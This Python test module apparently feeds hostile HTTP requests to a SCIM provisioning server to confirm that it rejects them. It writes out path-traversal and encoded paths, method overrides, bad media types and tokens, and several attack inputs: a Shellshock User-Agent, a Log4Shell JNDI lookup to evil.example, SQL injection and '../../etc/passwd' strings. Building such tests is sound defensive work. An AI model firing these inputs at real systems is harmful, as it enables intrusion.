"""Paths, methods, headers, preconditions, and what is sent in place of a token."""

from __future__ import annotations

from collections.abc import Iterator

from tests.scim.hostile import NOBODY, Hostile, Victims, numbered, patch_of, user_with

_NOT_THERE = frozenset((404,))
_NOT_TAKEN = frozenset((405,))

#: Below ``/scim/v2``; ``<user>`` is the user's id. Nothing stands at any of these.
PLACES = [
    "//", "///", "/.", "/..", "/../", "/User", "/user", "/Userss", "/Users/x",
    "/Users/0", "/Users/-1", "/Users/1", "/Users/null", "/Users/undefined", "/Users/me", "/Users/*",
    "/Users/%2A", f"/Users/{NOBODY}", "/Groups/<user>", "/Users/<user>/x", "/Users/<user>/groups",
    "/Users/<user>/<user>", "/Users//<user>", "/Users/<user>//", "/Users/./<user>",
    "/Users/../Users/<user>", "/Groups/../Users/<user>", "/Users/%2e%2e/Users/<user>", "/Users/%2e/<user>",
    "/Users/..%2fUsers%2f<user>", "/Users%2F<user>", "/Users%252F<user>", "/Users/%252e%252e/<user>",
    "/Users%5C<user>", "/Users\\<user>", "/Users/<user>%00", "/Users/%00<user>", "/Users%00/<user>",
    "/Users/<user>%0a", "/Users/<user>%0d%0aX:%20y", "/Users/<user>%20", "/Users/%20<user>",
    "/Users%20/<user>", "/Users/<user>.json", "/Users/<user>;x=1", "/Users;x/<user>", "/Users;/<user>",
    "/Users/<user>;", "/Users/<user>,<user>", "/Users/<user>%3Fx", "/Users/<user>%23", "/Users/{<user>}",
    "/Users/%7B<user>%7D", "/Users/<user>'", "/Users/'%20OR%201=1", "/Users/1%20OR%201=1", "/Users/%FF",
    "/Users/%C0%AF", "/Users/%ED%A0%80", "/Users/%E2%80%AE<user>", "/Users/%F0%9D%95%8F", "/%FF", "/%00",
    "/%2555sers/<user>", "/Use%72s%2f<user>", "/Nothing", "/Bulk/x", "/Bulk/", "/Schemas/x",
    "/ResourceTypes/x", "/ResourceTypes/Users", "/ServiceProviderConfig/x", "/ServiceProviderConfigs",
    "/.search/x", "/Users/.search/x", "/search", "/Users/search", "/Users/%2Esearch/", "/Me/x",
    "/scim/v2/Users/<user>", "/v2/Users/<user>", "/admin", "/../../healthz", "/%2e%2e/%2e%2e/healthz",
    "/Self", "/" + "x" * 5_000, "/Users/" + "x" * 7_000, "/" + "x/" * 1_000, "/" + "%2e%2e/" * 500,
    "/Users/" + "%00" * 1_000, "/Tokens", "/Organizations", "/Users.json",
]  # fmt: skip

METHODS = ["TRACE", "OPTION", "BREW", "PROPFIND", "LINK", "PURGE", "COPY", "GETS", "X" * 200]
_WRONG_METHODS = [
    ("PUT", "/Users"), ("DELETE", "/Users"), ("PATCH", "/Users"), ("PUT", "/Groups"), ("DELETE", "/Groups"),
    ("PATCH", "/Groups"), ("POST", "/Users/<user>"), ("POST", "/Groups/<group>"), ("GET", "/Bulk"),
    ("PUT", "/Bulk"), ("DELETE", "/Bulk"), ("GET", "/.search"), ("DELETE", "/.search"),
    ("PATCH", "/Users/.search"), ("POST", "/Schemas"), ("DELETE", "/Schemas"),
    ("PUT", "/ServiceProviderConfig"), ("PATCH", "/ServiceProviderConfig"), ("POST", "/ResourceTypes"),
    ("DELETE", "/ResourceTypes/User"), ("POST", ""), ("PUT", "/"), ("PATCH", ""), ("DELETE", "/"),
]  # fmt: skip
_OVERRIDES = ["X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method", "X-Http-Method_Override"]

MEDIA_TYPES = [
    "text/plain", "text/html", "text/json", "application/xml", "application/x-www-form-urlencoded",
    "application/yaml", "multipart/form-data; boundary=x", "multipart/mixed; boundary=",
    "application/octet-stream", "application/scim", "application/scim+xml", "application/jsonp",
    "application/json5", "application/*", "*/*", "x", "/", ";", "json",
    "application/scim+json; charset=utf-16", "application/json; charset=latin-1",
    "application/json; charset=utf-7", 'application/json; charset="utf-8\\"',
    "application/json; charset=" + "x" * 1_000, "application/json, text/plain",
    "application/scim+json\u00e9",
]  # fmt: skip

#: None of these is the victim's version, so a write under it is refused.
STALE = [
    'W/"999-1"', '"999-1"', 'W/"0-0"', 'W/"-1"', 'W/""', '""', '"', '"' * 500, 'W/"1', "W/1-1", "1", "1-1",
    'w/"999"', "null", "W/", ",", ",,,,", '"999", "998"', 'W/"999",' * 300, "x" * 3_000, '"\\"1\\""', "'1'",
    '"999" "1"', "\u00e9", '"9' + "9" * 2_000 + '"', '"*"', "**", "W/*",
]  # fmt: skip


def _places(victims: Victims) -> Iterator[Hostile]:
    for n, place in enumerate(PLACES):
        for method in ("GET", "DELETE"):
            yield Hostile(f"place-{n}-{method}", method, place.replace("<user>", victims.user))
    for n, (method, place) in enumerate(_WRONG_METHODS):
        path = place.replace("<user>", victims.user).replace("<group>", victims.group)
        yield Hostile(f"method-{n}", method, path, statuses=_NOT_TAKEN)
    for name, method in numbered("verb", METHODS):
        yield Hostile(name, method, "/Users")
        yield Hostile(f"{name}-one", method, f"/Users/{victims.user}")
    for name, header in numbered("override", _OVERRIDES):
        yield Hostile(name, "GET", f"/Users/{victims.user}", None, ((header, "DELETE"),), fate="harmless")
        yield Hostile(
            f"{name}-post",
            "POST",
            f"/Users/{victims.user}",
            b"{}",
            ((header, "DELETE"),),
            statuses=_NOT_TAKEN,
        )
    for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
        yield Hostile(
            f"me-{method}", method, "/Me", b"{}" if method != "GET" else None, statuses=frozenset((501,))
        )


def _headers(victims: Victims) -> Iterator[Hostile]:
    user, group = f"/Users/{victims.user}", f"/Groups/{victims.group}"
    for name, kind in numbered("media", MEDIA_TYPES):
        header = (("Content-Type", kind),)
        yield Hostile(name, "POST", "/Users", user_with(), header, statuses=frozenset((415,)))
        yield Hostile(
            f"{name}-bulk", "POST", "/Bulk", b'{"Operations":[]}', header, statuses=frozenset((415,))
        )
    for name, tag in numbered("stale", STALE):
        header = (("If-Match", tag),)
        yield Hostile(f"{name}-put", "PUT", user, user_with(), header)
        yield Hostile(
            f"{name}-patch",
            "PATCH",
            group,
            patch_of({"op": "add", "path": "externalId", "value": "x"}),
            header,
        )
        yield Hostile(f"{name}-delete", "DELETE", user, None, header)
        yield Hostile(f"{name}-unmatched", "GET", user, None, (("If-None-Match", tag),), fate="either")
    accepts = [
        "",
        "text/html",
        "application/xml",
        "*/*;q=0",
        "x",
        ";;;",
        "a/b" * 1_000,
        "application/scim+json;q=x",
        "image/*",
    ]
    for name, accept in numbered("accept", accepts):
        yield Hostile(name, "GET", user, None, (("Accept", accept),), fate="harmless")
        yield Hostile(f"{name}-encoding", "GET", user, None, (("Accept-Encoding", accept),), fate="harmless")
        yield Hostile(f"{name}-language", "GET", user, None, (("Accept-Language", accept),), fate="harmless")
    odd = [
        ("Range", "bytes=0-1"), ("Range", "bytes=99999999999-"), ("If-Modified-Since", "yesterday"),
        ("If-Range", "x"), ("Cookie", "a=" + "x" * 5_000), ("Cookie", ";" * 5_000), ("Cookie", "=" * 5_000),
        ("Cookie", "a=1;" * 1_500), ("X-Request-Id", "a\tb"), ("X-Request-Id", "x" * 5_000),
        ("X-Request-Id", "' OR 1=1"), ("X-Correlation-Id", "\u202e"), ("X-Forwarded-For", "127.0.0.1"),
        ("X-Forwarded-Host", "evil.example"), ("Forwarded", "for=_;" * 500), ("X-Original-URL", "/healthz"),
        ("X-Rewrite-URL", "/healthz"), ("Origin", "https://evil.example"), ("TE", "trailers"),
        ("Via", "1.1 x," * 500), ("Max-Forwards", "0"), ("From", "a@b.example"), ("DNT", "9" * 1_000),
        ("Upgrade", "h2c"), ("Sec-WebSocket-Key", "x"), ("Sec-Fetch-Site", "cross-site"),
        ("Referer", "javascript:alert(1)"), ("Traceparent", "00-x"), ("User-Agent", "() { :; }; /bin/true"),
        ("User-Agent", "${jndi:ldap://evil.example/a}"), ("Authorization2", "Bearer x"),
    ]  # fmt: skip
    for n, header in enumerate(odd):
        yield Hostile(f"header-{n}", "GET", user, None, (header,), fate="harmless")
    for n, count in enumerate((90, 110, 500)):
        many = tuple((f"X-H-{m}", "x") for m in range(count))
        yield Hostile(f"headers-{n}", "GET", user, None, many, fate="either")
    for n, size in enumerate((8_000, 9_000, 100_000)):
        yield Hostile(f"header-size-{n}", "GET", user, None, (("X-H", "x" * size),), fate="either")
        yield Hostile(f"query-size-{n}", "GET", f"/Users?x={'x' * size}", fate="either")


def places(victims: Victims) -> dict[str, list[Hostile]]:
    """The sections of this module, by name."""
    return {"places": list(_places(victims)), "headers": list(_headers(victims))}


# ------------------------------------------------------------------------------ without a token

#: Whole addresses (lesson 5). Whoever has no token learns nothing at any of them.
SPELLINGS = [
    "/scim/v2/Users", "/scim/v2/Users/", "/scim/v2//Users", "//scim/v2/Users", "/scim//v2/Users",
    "/scim/v2/%55sers", "/scim/v2/%2555sers", "/scim%2Fv2%2FUsers", "/scim/v2%2FUsers", "/scim/v2/./Users",
    "/scim/v2/../v2/Users", "/scim/v2/x/../Users", "/scim/v2/%2e%2e/v2/Users", "/scim/v2/Users;x=1",
    "/scim/v2;x/Users", "/scim;x/v2/Users", "/SCIM/v2/Users", "/scim/V2/Users", "/scim/v2/users",
    "/scim/v2/USERS", "/scim/v2/Users%20", "/scim/v2/Users%00", "/scim/v2/Users%0a", "/scim/v2/Users?x=1",
    "/scim/v2/Users#x", "/scim/v2/Users\\", "/scim/v2/Users.json", "/scim/v2/Users/*",
    "/scim/v2/Users/<user>", "/scim/v2/Users/<user>/", "/scim/v2/Users/%55", "/scim/v2/Schemas",
    "/scim/v2/ServiceProviderConfig", "/scim/v2/ResourceTypes", "/scim/v2/Groups", "/scim/v2/Me",
    "/scim/v2/Bulk", "/scim/v2/.search", "/scim/v2/Users/.search", "/scim/v2/", "/scim/v2", "/scim",
    "/scim/", "/%73cim/v2/Users", "/scim/%76%32/Users", "/scim\\v2\\Users", "/healthz/../scim/v2/Users",
    "/healthz/..%2fscim/v2/Users", "/healthz%2f..%2fscim/v2/Users", "/scim/v2/healthz",
    "/scim/v2/Users/..%2f..%2fhealthz", "/scim/v1/Users",
]  # fmt: skip

#: In place of ``Authorization: Bearer TOKEN``; T is a good token (lesson 27). Each is nobody.
NO_AUTHORIZATION = [
    "", " ", "T", "Bearer", "Bearer ", "BearerT", "Bearer\tT", "Bearer: T", "Bearer=T", "Bearer Bearer T",
    "Bearer T T", "Bearer T,", "Bearer T, Bearer T", "Bearer T; x", "Bearer Tx", "Bearer xT",
    "Bearer T\u00a0", "Bearer \"T\"", "Bearer 'T'", "Bearer <T>", "Bearer T%00", "Bearer T=",
    "Bearer token=T", "Basic T", "Basic VDo=", "Digest T", "Token T", "token T", "OAuth T", "Negotiate T",
    "DPoP T", "MAC T", "SCIM T", "Bearer null", "Bearer undefined", "Bearer 0", "Bearer *", "Bearer %",
    "Bearer ' OR 1=1 --", "Bearer ../../etc/passwd", "Bearer " + "x" * 600, "Bearer " + "x" * 7_000,
    "Bearer scimd_", "Bearer é", "Bearer eyJhbGciOiJub25lIn0.e30.", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x",
    "Bearer a.b.c", "Bearer ..", "Bearer ...",
]  # fmt: skip
